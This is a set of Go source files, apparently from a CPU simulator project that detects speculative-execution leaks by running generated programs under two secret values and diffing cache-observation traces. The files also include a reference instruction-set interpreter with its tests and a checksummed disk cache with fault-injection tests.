func (r *Runner) seqTrace(prog *asm.Program, poke func(*mem.Memory), into *[]Event) error {
	if r.ref == nil {
		r.ref = iss.New(prog)
		r.ref.SetObserver(r.onISS)
	} else {
		r.ref.Reset(prog)
	}
	if poke != nil {
		poke(r.ref.Mem)
	}
	*into = (*into)[:0]
	r.active = into
	err := r.ref.Run(issBudget)
	r.active = nil
	return err
}

// entryFor returns nc's cached machine loaded with prog (Reset on reuse,
// built with observers installed on first use, LRU-evicting on overflow) and
// marks it most recently used.  Entries touched back to back — a lockstep
// lane group — carry the highest lastUse values, so a group of at most
// RunnerCacheCap machines never evicts its own members.
func (r *Runner) entryFor(nc difftest.NamedConfig, prog *asm.Program) *entry {
	e := r.cpus[nc.Name]
	if e == nil || e.cfg != nc.Config {
		if e == nil && len(r.cpus) >= difftest.RunnerCacheCap {
			var victim string
			oldest := ^uint64(0)
			for name, ce := range r.cpus {
				if ce.lastUse < oldest {
					victim, oldest = name, ce.lastUse
				}
			}
			delete(r.cpus, victim)
		}
		e = &entry{cfg: nc.Config}
		c := cpu.New(nc.Config, prog)
		c.SetObserver(e.onCPU)
		c.Hier().SetObserver(e.onMem)
		e.c = c
		r.cpus[nc.Name] = e
	} else {
		e.c.Reset(prog)
	}
	r.tick++
	e.lastUse = r.tick
	return e
}

// pipeTrace runs prog on the pipeline under nc and captures its observation
// trace.  Machines are cached per configuration name (value-compared, LRU-
// bounded like the difftest runner cache) with observers pre-installed —
// Reset keeps them.
func (r *Runner) pipeTrace(nc difftest.NamedConfig, prog *asm.Program, poke func(*mem.Memory), into *[]Event) error {
	e := r.entryFor(nc, prog)
	if poke != nil {
		poke(e.c.Mem())
	}
	*into = (*into)[:0]
	e.active = into
	err := e.c.Run(cpuBudget)
	e.active = nil
	return err
}

// CheckSeqBaseline runs both valuations on the reference interpreter and
// verifies the sequential traces are equal (nil if so).  It is config-
// independent: campaigns run it once per input, then CheckConfig per
// configuration.
func (r *Runner) CheckSeqBaseline(in Input) *Finding {
	if err := r.seqTrace(in.ProgA, in.PokeA, &r.seqA); err != nil {
		return &Finding{Program: in.Name, Config: "iss", Kind: KindRunError, Detail: "valuation A: " + err.Error()}
	}
	if err := r.seqTrace(in.ProgB, in.PokeB, &r.seqB); err != nil {
		return &Finding{Program: in.Name, Config: "iss", Kind: KindRunError, Detail: "valuation B: " + err.Error()}
	}
	if i, ok := firstDiff(r.seqA, r.seqB); ok {
		f := &Finding{Program: in.Name, Config: "iss", Kind: KindSeqDivergence, Index: i,
			Detail: diffDetail(r.seqA, r.seqB, i)}
		f.PC, f.Line, f.Event = divergenceSite(r.seqA, r.seqB, i)
		return f
	}
	return nil
}

// CheckConfig runs both valuations on the pipeline under nc and diffs the
// observation traces.  It reports (finding, ran): finding is nil when the
// traces are equal; ran is false when a simulator error prevented the
// comparison (the finding then carries the error).
func (r *Runner) CheckConfig(in Input, nc difftest.NamedConfig) (*Finding, bool) {
	if err := r.pipeTrace(nc, in.ProgA, in.PokeA, &r.bufA); err != nil {
		return &Finding{Program: in.Name, Config: nc.Name, Kind: KindRunError, Detail: "valuation A: " + err.Error()}, false
	}
	if err := r.pipeTrace(nc, in.ProgB, in.PokeB, &r.bufB); err != nil {
		return &Finding{Program: in.Name, Config: nc.Name, Kind: KindRunError, Detail: "valuation B: " + err.Error()}, false
	}
	if i, ok := firstDiff(r.bufA, r.bufB); ok {
		f := &Finding{Program: in.Name, Config: nc.Name, Kind: KindLeak, Index: i,
			Detail: diffDetail(r.bufA, r.bufB, i)}
		f.PC, f.Line, f.Event = divergenceSite(r.bufA, r.bufB, i)
		return f, true
	}
	return nil, true
}

// CheckInput is the full oracle for one input on one configuration:
// sequential baseline, then pipeline self-composition.
func (r *Runner) CheckInput(in Input, nc difftest.NamedConfig) *Finding {
	if f := r.CheckSeqBaseline(in); f != nil {
		return f
	}
	f, _ := r.CheckConfig(in, nc)
	return f
}

// firstDiff returns the index of the first differing event (handling prefix
// traces) and whether the traces differ at all.
func firstDiff(a, b []Event) (int, bool) {
	n := min(len(a), len(b))
	for i := 0; i < n; i++ {
		if a[i] != b[i] {
			return i, true
		}
	}
	if len(a) != len(b) {
		return n, true
	}
	return 0, false
}

// divergenceSite extracts the responsible PC, cache line and event kind for
// the divergence at index i.  Hierarchy fill/evict events carry no PC (they
// fire inside mem.Hierarchy.Access, before the pipeline emits its own load
// event), so the PC is taken from the first nearby event that has one.
func divergenceSite(a, b []Event, i int) (pc, line uint64, kind string) {
	at := func(t []Event, j int) (Event, bool) {
		if j < len(t) {
			return t[j], true
		}
		return Event{}, false
	}
	e, ok := at(a, i)
	if !ok {
		e, _ = at(b, i)
	}
	line, kind = e.Line, e.Kind.String()
	if e.PC != 0 {
		return e.PC, line, kind
	}
	const window = 8
	for j := i; j < i+window; j++ {
		if ea, ok := at(a, j); ok && ea.PC != 0 {
			return ea.PC, line, kind
		}
		if eb, ok := at(b, j); ok && eb.PC != 0 {
			return eb.PC, line, kind
		}
	}
	return 0, line, kind
}

// diffDetail renders the first divergent event pair.
func diffDetail(a, b []Event, i int) string {
	render := func(t []Event) string {
		if i < len(t) {
			return t[i].String()
		}
		return "<end of trace>"
	}
	return fmt.Sprintf("observation %d: valuation A %s, valuation B %s (|A|=%d |B|=%d)",
		i, render(a), render(b), len(a), len(b))
}

// Valuations returns the two secret byte patterns of the self-composition:
// complementary, so every bit of every byte differs between the runs.
func Valuations(n int) (a, b []byte) {
	a = make([]byte, n)
	b = make([]byte, n)
	for i := range a {
		a[i] = byte(0x5A + 7*i)
		b[i] = ^a[i]
	}
	return a, b
}

// PokeBytes returns a poke writing val at addr (functional memory only — no
// timing effect, exactly like a victim holding a different secret).
func PokeBytes(addr uint64, val []byte) func(*mem.Memory) {
	return func(m *mem.Memory) {
		for i, x := range val {
			m.SetByte(addr+uint64(i), x)
		}
	}
}

// SeedResult is the outcome of checking one generated seed.
type SeedResult struct {
	Seed     int64
	Findings []Finding
	Ran      []string // configurations that completed both runs
}

// SeedInput builds the self-composition input for one proggen seed: the
// program generated with a secret region, run under the two Valuations.
func SeedInput(seed int64, opt proggen.Options) Input {
	prog, info := proggen.GenerateWithInfo(seed, opt)
	valA, valB := Valuations(opt.SecretBytes)
	return Input{
		ProgA: prog, ProgB: prog,
		PokeA: PokeBytes(info.SecretAddr, valA),
		PokeB: PokeBytes(info.SecretAddr, valB),
	}
}

// CheckSeed runs the leak oracle for one generated seed across a config
// set.  opt must have SecretBytes > 0 (campaigns set it); the sequential
// baseline runs once, each configuration's self-composition after it.
func CheckSeed(seed int64, opt proggen.Options, cfgs []difftest.NamedConfig) SeedResult {
	r := runners.Get()
	defer runners.Put(r)
	res := SeedResult{Seed: seed}
	in := SeedInput(seed, opt)
	if f := r.CheckSeqBaseline(in); f != nil {
		f.Seed = seed
		res.Findings = append(res.Findings, *f)
		return res
	}
	for _, nc := range cfgs {
		f, ran := r.CheckConfig(in, nc)
		if ran {
			res.Ran = append(res.Ran, nc.Name)
		}
		if f != nil {
			f.Seed = seed
			res.Findings = append(res.Findings, *f)
		}
	}
	return res
}
