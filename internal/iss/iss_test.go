package iss

import (
	"errors"
	"math"
	"testing"

	"specrun/internal/asm"
	"specrun/internal/isa"
)

func run(t *testing.T, src string) *Interp {
	t.Helper()
	p, err := asm.Parse("t", src)
	if err != nil {
		t.Fatal(err)
	}
	it := New(p)
	if err := it.Run(1_000_000); err != nil {
		t.Fatal(err)
	}
	return it
}

func TestALUOps(t *testing.T) {
	it := run(t, `
		movi r1, 7
		movi r2, 3
		add  r3, r1, r2
		sub  r4, r1, r2
		mul  r5, r1, r2
		div  r6, r1, r2
		and  r7, r1, r2
		or   r8, r1, r2
		xor  r9, r1, r2
		shli r10, r1, 4
		shri r11, r10, 2
		div  r12, r1, r0
		halt`)
	want := map[int]uint64{3: 10, 4: 4, 5: 21, 6: 2, 7: 3, 8: 7, 9: 4, 10: 112, 11: 28, 12: ^uint64(0)}
	for idx, v := range want {
		if it.IntReg[idx] != v {
			t.Errorf("r%d = %d, want %d", idx, it.IntReg[idx], v)
		}
	}
}

func TestZeroRegister(t *testing.T) {
	it := run(t, `
		addi r0, r0, 99
		add  r1, r0, r0
		halt`)
	if it.IntReg[0] != 0 || it.IntReg[1] != 0 {
		t.Fatalf("r0 = %d r1 = %d, want 0", it.IntReg[0], it.IntReg[1])
	}
}

func TestLoadStore(t *testing.T) {
	it := run(t, `
		.data 0x100000
		buf: .zero 64
		start:
		movi r1, buf
		movi r2, 0x1122334455667788
		st   [r1 + 0], r2
		ld   r3, [r1 + 0]
		ldb  r4, [r1 + 1]
		movi r5, 0xff
		stb  [r1 + 8], r5
		ld   r6, [r1 + 8]
		movi r7, 2
		ldx  r8, [r1 + r7*4 + 0]
		halt`)
	if it.IntReg[3] != 0x1122334455667788 {
		t.Fatalf("r3 = %#x", it.IntReg[3])
	}
	if it.IntReg[4] != 0x77 {
		t.Fatalf("ldb zero-extend: r4 = %#x", it.IntReg[4])
	}
	if it.IntReg[6] != 0xff {
		t.Fatalf("stb: r6 = %#x", it.IntReg[6])
	}
	if it.IntReg[8] != it.Mem.ReadU64(it.Prog.MustSym("buf")+8) {
		t.Fatalf("ldx addressing wrong: %#x", it.IntReg[8])
	}
}

func TestBranchesAndLoops(t *testing.T) {
	it := run(t, `
		movi r1, 10
		movi r2, 0
	loop:
		add  r2, r2, r1
		addi r1, r1, -1
		bne  r1, r0, loop
		halt`)
	if it.IntReg[2] != 55 {
		t.Fatalf("sum = %d, want 55", it.IntReg[2])
	}
}

func TestCallRet(t *testing.T) {
	it := run(t, `
		.data 0x100000
		stack: .zero 1024
		start:
		movi sp, stack
		addi sp, sp, 1024
		movi r1, 5
		call double
		call double
		halt
	double:
		add r1, r1, r1
		ret`)
	if it.IntReg[1] != 20 {
		t.Fatalf("r1 = %d, want 20", it.IntReg[1])
	}
	// Stack pointer balanced.
	if got := it.IntReg[isa.SP.Idx()]; got != it.Prog.MustSym("stack")+1024 {
		t.Fatalf("sp = %#x", got)
	}
}

func TestNestedCalls(t *testing.T) {
	it := run(t, `
		.data 0x100000
		stack: .zero 1024
		start:
		movi sp, stack
		addi sp, sp, 1024
		movi r1, 1
		call a
		halt
	a:
		addi r1, r1, 10
		call b
		addi r1, r1, 100
		ret
	b:
		addi r1, r1, 1000
		ret`)
	if it.IntReg[1] != 1111 {
		t.Fatalf("r1 = %d, want 1111", it.IntReg[1])
	}
}

func TestIndirectJump(t *testing.T) {
	it := run(t, `
		movi r1, tgt
		jr   r1
		movi r2, 1
		halt
	tgt:
		movi r2, 2
		halt`)
	if it.IntReg[2] != 2 {
		t.Fatalf("r2 = %d, want 2", it.IntReg[2])
	}
}

func TestFloatingPoint(t *testing.T) {
	it := run(t, `
		fmovi f1, 1.5
		fmovi f2, 2.5
		fadd  f3, f1, f2
		fmul  f4, f1, f2
		fsub  f5, f2, f1
		fdiv  f6, f2, f1
		halt`)
	checks := map[int]float64{3: 4.0, 4: 3.75, 5: 1.0, 6: 2.5 / 1.5}
	for idx, want := range checks {
		got := float64frombits(it.FPReg[idx])
		if got != want {
			t.Errorf("f%d = %g, want %g", idx, got, want)
		}
	}
}

func TestVector(t *testing.T) {
	it := run(t, `
		.data 0x100000
		vbuf: .u64 1, 2, 3, 4
		start:
		movi r1, vbuf
		vld  v1, [r1 + 0]
		vld  v2, [r1 + 16]
		vaddq v3, v1, v2
		vst  [r1 + 32], v3
		halt`)
	base := it.Prog.MustSym("vbuf")
	if it.Mem.ReadU64(base+32) != 4 || it.Mem.ReadU64(base+40) != 6 {
		t.Fatalf("vector add wrong: %d %d", it.Mem.ReadU64(base+32), it.Mem.ReadU64(base+40))
	}
}

func TestRDTSCCountsSteps(t *testing.T) {
	it := run(t, `
		rdtsc r1
		nop
		nop
		rdtsc r2
		halt`)
	if it.IntReg[2] <= it.IntReg[1] {
		t.Fatalf("rdtsc not monotonic: %d then %d", it.IntReg[1], it.IntReg[2])
	}
}

func TestStepBudget(t *testing.T) {
	p, err := asm.Parse("t", "loop: jmp loop")
	if err != nil {
		t.Fatal(err)
	}
	it := New(p)
	if err := it.Run(100); !errors.Is(err, ErrMaxSteps) {
		t.Fatalf("err = %v, want ErrMaxSteps", err)
	}
}

func TestPCOutsideText(t *testing.T) {
	p, err := asm.Parse("t", "nop") // falls off the end
	if err != nil {
		t.Fatal(err)
	}
	it := New(p)
	if err := it.Run(100); err == nil {
		t.Fatal("running off the end must error")
	}
}

func float64frombits(b uint64) float64 { return math.Float64frombits(b) }
