// Package iss is the functional reference interpreter (instruction set
// simulator) for the ISA.  It executes programs in order with no
// microarchitecture at all, and therefore defines the architectural
// semantics the out-of-order core must match: the differential tests run
// random programs on both and require identical final register and memory
// state — speculation, runahead and the secure extensions must all be
// architecturally invisible.
package iss

import (
	"errors"
	"fmt"

	"specrun/internal/asm"
	"specrun/internal/isa"
	"specrun/internal/mem"
)

// ErrMaxSteps reports that the step budget was exhausted before HALT.
var ErrMaxSteps = errors.New("iss: step budget exhausted")

// Interp is the interpreter state.
type Interp struct {
	Prog *asm.Program
	Mem  *mem.Memory

	PC     uint64
	IntReg [isa.NumIntRegs]uint64
	FPReg  [isa.NumFPRegs]uint64
	VecReg [isa.NumVecRegs][2]uint64

	Steps  uint64
	Halted bool

	obsFn func(Observation) // leak-oracle tap (SetObserver); kept across Reset
}

// ObsKind classifies one sequential-semantics memory observation.
type ObsKind uint8

const (
	// ObsLoad is an architecturally executed load (including RET's pop).
	ObsLoad ObsKind = iota
	// ObsStore is an architecturally executed store (including CALL's push).
	ObsStore
	// ObsFlush is an executed CLFLUSH: architecturally a no-op, but its
	// target address is attacker-visible cache-state change, so the
	// sequential baseline must include it.
	ObsFlush
)

// Observation is one memory-side event of the sequential (in-order,
// non-speculative) semantics.  The leak oracle runs a program twice with
// two secret valuations: if the sequential observation traces are equal,
// any difference between the corresponding *pipeline* traces is a purely
// speculative, secret-dependent effect — a SPECRUN-style leak.  Addresses
// are raw effective addresses (callers align to lines as needed).
type Observation struct {
	PC   uint64
	Addr uint64
	Kind ObsKind
}

// SetObserver installs fn to receive one Observation per executed memory
// access, in program order (nil removes it).  The hook survives Reset and
// runs synchronously inside Step.
func (it *Interp) SetObserver(fn func(Observation)) { it.obsFn = fn }

// New builds an interpreter for prog with data segments loaded into a fresh
// memory image.
func New(prog *asm.Program) *Interp {
	m := mem.NewMemory()
	prog.LoadInto(m)
	return &Interp{Prog: prog, Mem: m, PC: prog.Base}
}

// Reset rewinds the interpreter to its just-constructed state and loads
// prog, reusing the memory image's page allocations (campaign workers run
// one interpreter per worker instead of one per seed).
func (it *Interp) Reset(prog *asm.Program) {
	it.Mem.Reset()
	prog.LoadInto(it.Mem)
	it.Prog = prog
	it.PC = prog.Base
	it.IntReg = [isa.NumIntRegs]uint64{}
	it.FPReg = [isa.NumFPRegs]uint64{}
	it.VecReg = [isa.NumVecRegs][2]uint64{}
	it.Steps = 0
	it.Halted = false
}

func (it *Interp) readReg(r isa.Reg) uint64 {
	switch r.Class() {
	case isa.ClassNone:
		return 0 // absent operand (e.g. rs2 of immediate forms)
	case isa.ClassInt:
		if r.IsZero() {
			return 0
		}
		return it.IntReg[r.Idx()]
	case isa.ClassFP:
		return it.FPReg[r.Idx()]
	}
	panic(fmt.Sprintf("iss: scalar read of %v", r))
}

func (it *Interp) writeReg(r isa.Reg, v uint64) {
	switch r.Class() {
	case isa.ClassInt:
		if !r.IsZero() {
			it.IntReg[r.Idx()] = v
		}
	case isa.ClassFP:
		it.FPReg[r.Idx()] = v
	default:
		panic(fmt.Sprintf("iss: scalar write of %v", r))
	}
}

// Step executes one instruction.  It reports whether execution may continue.
func (it *Interp) Step() (bool, error) {
	if it.Halted {
		return false, nil
	}
	in, ok := it.Prog.InstAt(it.PC)
	if !ok {
		return false, fmt.Errorf("iss: pc %#x outside program text", it.PC)
	}
	it.Steps++
	next := it.PC + isa.InstBytes

	switch in.Op.Kind() {
	case isa.KindALU:
		switch in.Op.DestClass() {
		case isa.ClassInt:
			it.writeReg(in.Rd, isa.EvalALU(in.Op, it.readReg(in.Rs1), it.readReg(in.Rs2), in.Imm))
		case isa.ClassFP:
			it.writeReg(in.Rd, isa.EvalFP(in.Op, it.readReg(in.Rs1), it.readReg(in.Rs2), in.Imm))
		case isa.ClassVec:
			it.VecReg[in.Rd.Idx()] = isa.EvalVec(in.Op, it.VecReg[in.Rs1.Idx()], it.VecReg[in.Rs2.Idx()])
		}
	case isa.KindLoad:
		addr := isa.EffAddr(in, it.readReg(in.Rs1), it.indexVal(in))
		if it.obsFn != nil {
			it.obsFn(Observation{PC: it.PC, Addr: addr, Kind: ObsLoad})
		}
		switch in.Op {
		case isa.VLD:
			it.VecReg[in.Rd.Idx()] = [2]uint64{it.Mem.ReadU64(addr), it.Mem.ReadU64(addr + 8)}
		default:
			it.writeReg(in.Rd, it.Mem.Read(addr, in.Op.MemSize()))
		}
	case isa.KindStore:
		addr := isa.EffAddr(in, it.readReg(in.Rs1), it.indexVal(in))
		if it.obsFn != nil {
			it.obsFn(Observation{PC: it.PC, Addr: addr, Kind: ObsStore})
		}
		switch in.Op {
		case isa.VST:
			v := it.VecReg[in.Rs3.Idx()]
			it.Mem.WriteU64(addr, v[0])
			it.Mem.WriteU64(addr+8, v[1])
		default:
			it.Mem.Write(addr, in.Op.MemSize(), it.readReg(in.Rs3))
		}
	case isa.KindBranch:
		if isa.CondTaken(in.Op, it.readReg(in.Rs1), it.readReg(in.Rs2)) {
			next = in.Target
		}
	case isa.KindJump:
		next = in.Target
	case isa.KindJumpR:
		next = it.readReg(in.Rs1)
	case isa.KindCall, isa.KindCallR:
		sp := it.readReg(isa.SP) - 8
		if it.obsFn != nil {
			it.obsFn(Observation{PC: it.PC, Addr: sp, Kind: ObsStore})
		}
		it.Mem.WriteU64(sp, it.PC+isa.InstBytes)
		it.writeReg(isa.SP, sp)
		if in.Op.Kind() == isa.KindCall {
			next = in.Target
		} else {
			next = it.readReg(in.Rs1)
		}
	case isa.KindRet:
		sp := it.readReg(isa.SP)
		if it.obsFn != nil {
			it.obsFn(Observation{PC: it.PC, Addr: sp, Kind: ObsLoad})
		}
		next = it.Mem.ReadU64(sp)
		it.writeReg(isa.SP, sp+8)
	case isa.KindRDTSC:
		it.writeReg(in.Rd, it.Steps)
	case isa.KindFlush:
		// Architecturally invisible, but the flushed line is observable
		// cache state — record it for the leak oracle's baseline.
		if it.obsFn != nil {
			it.obsFn(Observation{PC: it.PC, Addr: isa.EffAddr(in, it.readReg(in.Rs1), 0), Kind: ObsFlush})
		}
	case isa.KindNop, isa.KindFence:
		// Architecturally invisible.
	case isa.KindHalt:
		it.Halted = true
		return false, nil
	default:
		return false, fmt.Errorf("iss: cannot execute %s at %#x", in.Op, it.PC)
	}
	it.PC = next
	return true, nil
}

// RegValue reads the current value of reg in any class (both lanes for a
// vector register, zero for NoReg and the hardwired zero register).  The
// differential tests use it to read an instruction's destination back after
// Step and compare it against the OoO core's commit record.
func (it *Interp) RegValue(r isa.Reg) (v, v2 uint64) {
	switch r.Class() {
	case isa.ClassInt:
		if r.IsZero() {
			return 0, 0
		}
		return it.IntReg[r.Idx()], 0
	case isa.ClassFP:
		return it.FPReg[r.Idx()], 0
	case isa.ClassVec:
		vec := it.VecReg[r.Idx()]
		return vec[0], vec[1]
	}
	return 0, 0
}

func (it *Interp) indexVal(in isa.Inst) uint64 {
	if in.UsesIndex() {
		return it.readReg(in.Rs2)
	}
	return 0
}

// Run executes until HALT or the step budget is exhausted.
func (it *Interp) Run(maxSteps uint64) error {
	for it.Steps < maxSteps {
		cont, err := it.Step()
		if err != nil {
			return err
		}
		if !cont {
			return nil
		}
	}
	if !it.Halted {
		return ErrMaxSteps
	}
	return nil
}
