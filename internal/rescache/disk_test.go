package rescache

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"os"
	"path/filepath"
	"testing"

	"specrun/internal/faultinject"
)

// diskKey builds a well-formed hex key from a label.
func diskKey(label string) string {
	sum := sha256.Sum256([]byte(label))
	return hex.EncodeToString(sum[:])
}

func newDiskCache(t *testing.T, dir string) *Cache {
	t.Helper()
	c := New(8)
	if err := c.AttachDisk(DiskOptions{Dir: dir, NoFsync: true}); err != nil {
		t.Fatalf("AttachDisk: %v", err)
	}
	return c
}

// TestDiskSurvivesRestart is the durability contract: a value computed by
// one cache instance is served — without recomputation — by a fresh
// instance over the same directory.
func TestDiskSurvivesRestart(t *testing.T) {
	dir := t.TempDir()
	key := diskKey("restart")
	c1 := newDiskCache(t, dir)
	ran := 0
	v, hit, err := c1.Do(context.Background(), key, func() ([]byte, error) {
		ran++
		return []byte("payload-1"), nil
	})
	if err != nil || hit || string(v) != "payload-1" || ran != 1 {
		t.Fatalf("first compute: v=%q hit=%v err=%v ran=%d", v, hit, err, ran)
	}

	// "Restart": a brand-new cache over the same directory.
	c2 := newDiskCache(t, dir)
	v, hit, err = c2.Do(context.Background(), key, func() ([]byte, error) {
		t.Fatal("recomputed a disk-resident entry")
		return nil, nil
	})
	if err != nil || !hit || string(v) != "payload-1" {
		t.Fatalf("after restart: v=%q hit=%v err=%v", v, hit, err)
	}
	st := c2.Stats()
	if st.Disk == nil || st.Disk.Hits != 1 {
		t.Fatalf("disk stats after restart hit: %+v", st.Disk)
	}
	// The promoted entry now hits memory: no second disk read.
	if _, ok := c2.Get(key); !ok {
		t.Fatal("promoted entry missing from memory")
	}
	if st := c2.Stats(); st.Disk.Hits != 1 {
		t.Fatalf("memory hit consulted disk again: %+v", st.Disk)
	}
}

// TestDiskChecksumQuarantine: a corrupted entry file is never served — it
// is moved to quarantine, the lookup misses, and the recomputed value
// replaces it.
func TestDiskChecksumQuarantine(t *testing.T) {
	dir := t.TempDir()
	key := diskKey("corrupt")
	c1 := newDiskCache(t, dir)
	c1.Add(key, []byte("good bytes"))

	// Flip a payload byte on disk.
	path := filepath.Join(dir, key)
	raw, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	raw[len(raw)-1] ^= 0xff
	if err := os.WriteFile(path, raw, 0o644); err != nil {
		t.Fatal(err)
	}

	c2 := newDiskCache(t, dir)
	ran := 0
	v, hit, err := c2.Do(context.Background(), key, func() ([]byte, error) {
		ran++
		return []byte("good bytes"), nil
	})
	if err != nil || hit || ran != 1 || string(v) != "good bytes" {
		t.Fatalf("corrupt entry: v=%q hit=%v err=%v ran=%d", v, hit, err, ran)
	}
	st := c2.Stats()
	if st.Disk.Quarantined != 1 {
		t.Fatalf("quarantined = %d, want 1 (%+v)", st.Disk.Quarantined, st.Disk)
	}
	if _, err := os.Stat(filepath.Join(dir, "quarantine", key)); err != nil {
		t.Fatalf("quarantine file: %v", err)
	}
	// The recompute rewrote a healthy entry.
	sum, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if got := sha256.Sum256(sum[diskChecksumLen:]); got != [diskChecksumLen]byte(sum[:diskChecksumLen]) {
		t.Fatal("rewritten entry fails its own checksum")
	}
}

// TestDiskSizeBoundEviction: the startup scan and the write path both hold
// the byte bound, evicting least-recently-used files.
func TestDiskSizeBoundEviction(t *testing.T) {
	dir := t.TempDir()
	c := New(64)
	// Bound small enough for ~3 entries of 100 payload bytes (+32 checksum).
	if err := c.AttachDisk(DiskOptions{Dir: dir, MaxBytes: 400, NoFsync: true}); err != nil {
		t.Fatal(err)
	}
	payload := make([]byte, 100)
	keys := make([]string, 6)
	for i := range keys {
		keys[i] = diskKey(string(rune('a' + i)))
		c.Add(keys[i], payload)
	}
	st := c.Stats()
	if st.Disk.Bytes > 400 {
		t.Fatalf("disk bytes %d exceed bound 400", st.Disk.Bytes)
	}
	if st.Disk.Evictions == 0 {
		t.Fatal("no evictions recorded past the bound")
	}
	// The newest entry survived; the oldest was evicted.
	files, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	onDisk := map[string]bool{}
	for _, f := range files {
		onDisk[f.Name()] = true
	}
	if !onDisk[keys[5]] {
		t.Fatal("newest entry evicted")
	}
	if onDisk[keys[0]] {
		t.Fatal("oldest entry survived past the bound")
	}
}

// TestDiskDegradesToMemoryOnly: an unusable directory must not break the
// cache — AttachDisk errors, the Degraded flag is set, and lookups work.
func TestDiskDegradesToMemoryOnly(t *testing.T) {
	if os.Geteuid() == 0 {
		t.Skip("running as root: directory permissions are not enforced")
	}
	parent := t.TempDir()
	if err := os.Chmod(parent, 0o555); err != nil {
		t.Fatal(err)
	}
	defer os.Chmod(parent, 0o755)
	c := New(8)
	if err := c.AttachDisk(DiskOptions{Dir: filepath.Join(parent, "cache")}); err == nil {
		t.Fatal("AttachDisk on read-only parent succeeded")
	}
	v, hit, err := c.Do(context.Background(), diskKey("degraded"), func() ([]byte, error) {
		return []byte("ok"), nil
	})
	if err != nil || hit || string(v) != "ok" {
		t.Fatalf("degraded cache compute: %q %v %v", v, hit, err)
	}
	st := c.Stats()
	if st.Disk == nil || !st.Disk.Degraded {
		t.Fatalf("degraded flag not surfaced: %+v", st.Disk)
	}
}

// TestDiskInjectedWriteErrors: an injected write failure leaves the entry
// memory-only (counted, logged) and the next instance recomputes — exactly
// the graceful-degradation contract.
func TestDiskInjectedWriteErrors(t *testing.T) {
	dir := t.TempDir()
	faultinject.Enable(faultinject.Config{Points: map[faultinject.Point]faultinject.PointConfig{
		faultinject.DiskWrite: {First: 1},
	}})
	defer faultinject.Disable()

	c := newDiskCache(t, dir)
	key := diskKey("wfault")
	c.Add(key, []byte("v1"))
	st := c.Stats()
	if st.Disk.WriteErrors != 1 || st.Disk.Writes != 0 {
		t.Fatalf("after injected write error: %+v", st.Disk)
	}
	// Memory still serves it.
	if v, ok := c.Get(key); !ok || string(v) != "v1" {
		t.Fatalf("memory lookup after write fault: %q %v", v, ok)
	}
	// The second write (fault exhausted) persists.
	key2 := diskKey("wfault2")
	c.Add(key2, []byte("v2"))
	if st := c.Stats(); st.Disk.Writes != 1 {
		t.Fatalf("second write not persisted: %+v", st.Disk)
	}
}

// TestDiskInjectedReadErrors: a read fault is a miss, not a crash, and the
// entry is not quarantined (the bytes on disk are fine).
func TestDiskInjectedReadErrors(t *testing.T) {
	dir := t.TempDir()
	c1 := newDiskCache(t, dir)
	key := diskKey("rfault")
	c1.Add(key, []byte("stable"))

	faultinject.Enable(faultinject.Config{Points: map[faultinject.Point]faultinject.PointConfig{
		faultinject.DiskRead: {First: 1},
	}})
	defer faultinject.Disable()

	c2 := newDiskCache(t, dir)
	if _, ok := c2.Get(key); ok {
		t.Fatal("read fault served a value")
	}
	st := c2.Stats()
	if st.Disk.ReadErrors != 1 || st.Disk.Quarantined != 0 {
		t.Fatalf("after injected read error: %+v", st.Disk)
	}
	// Fault exhausted: the entry reads fine and was never quarantined.
	if v, ok := c2.Get(key); !ok || string(v) != "stable" {
		t.Fatalf("entry lost after transient read fault: %q %v", v, ok)
	}
}

// TestDiskTmpLeftoversCleaned: tmp files from a crashed writer are removed
// at open and never surface as entries.
func TestDiskTmpLeftoversCleaned(t *testing.T) {
	dir := t.TempDir()
	if err := os.MkdirAll(filepath.Join(dir, "tmp"), 0o755); err != nil {
		t.Fatal(err)
	}
	stale := filepath.Join(dir, "tmp", diskKey("halfwrite"))
	if err := os.WriteFile(stale, []byte("torn"), 0o644); err != nil {
		t.Fatal(err)
	}
	newDiskCache(t, dir)
	if _, err := os.Stat(stale); !errors.Is(err, os.ErrNotExist) {
		t.Fatalf("stale tmp file survived open: %v", err)
	}
}

// TestDiskIgnoresForeignFiles: non-entry names in the directory are left
// alone and never loaded.
func TestDiskIgnoresForeignFiles(t *testing.T) {
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "README.txt"), []byte("hello"), 0o644); err != nil {
		t.Fatal(err)
	}
	c := newDiskCache(t, dir)
	if st := c.Stats(); st.Disk.Entries != 0 {
		t.Fatalf("foreign file indexed: %+v", st.Disk)
	}
	if _, err := os.Stat(filepath.Join(dir, "README.txt")); err != nil {
		t.Fatalf("foreign file touched: %v", err)
	}
}
