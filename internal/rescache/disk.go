package rescache

import (
	"container/list"
	"crypto/sha256"
	"fmt"
	"log/slog"
	"os"
	"path/filepath"
	"sort"
	"sync"

	"specrun/internal/faultinject"
)

// DiskStats is the disk tier's section of [Stats].
type DiskStats struct {
	Hits        uint64 `json:"hits"`         // entries served from disk after a memory miss
	Misses      uint64 `json:"misses"`       // memory misses that also missed on disk
	Writes      uint64 `json:"writes"`       // entries persisted
	WriteErrors uint64 `json:"write_errors"` // persists that failed (entry stays memory-only)
	ReadErrors  uint64 `json:"read_errors"`  // reads that failed for non-corruption reasons
	Quarantined uint64 `json:"quarantined"`  // corrupt entries moved aside on read
	Evictions   uint64 `json:"evictions"`    // entries dropped by the size bound
	Entries     int    `json:"entries"`      // files resident right now
	Bytes       int64  `json:"bytes"`        // payload+checksum bytes resident
	MaxBytes    int64  `json:"max_bytes"`    // size bound
	Degraded    bool   `json:"degraded"`     // directory unusable at open: running memory-only
}

// diskEntry is one LRU node: front of the list = most recently used.
type diskEntry struct {
	key  string
	size int64
}

// diskStore is the persistent tier under Cache: one content-addressed file
// per entry.  The file layout is a 32-byte SHA-256 of the payload followed
// by the payload, so every read is checksum-verified; a mismatch (torn
// write, bit rot, truncation) quarantines the file instead of serving it.
// Writes go through a tmp file + rename, so a crash can never leave a
// half-written entry under its final name.
type diskStore struct {
	dir      string // entries live here, flat, named by hash key
	tmpDir   string
	quarDir  string
	maxBytes int64

	mu      sync.Mutex
	ll      *list.List
	index   map[string]*list.Element
	bytes   int64
	stats   DiskStats
	logger  *slog.Logger
	doFsync bool
}

const diskChecksumLen = sha256.Size

// defaultDiskMaxBytes bounds the disk tier when the caller does not:
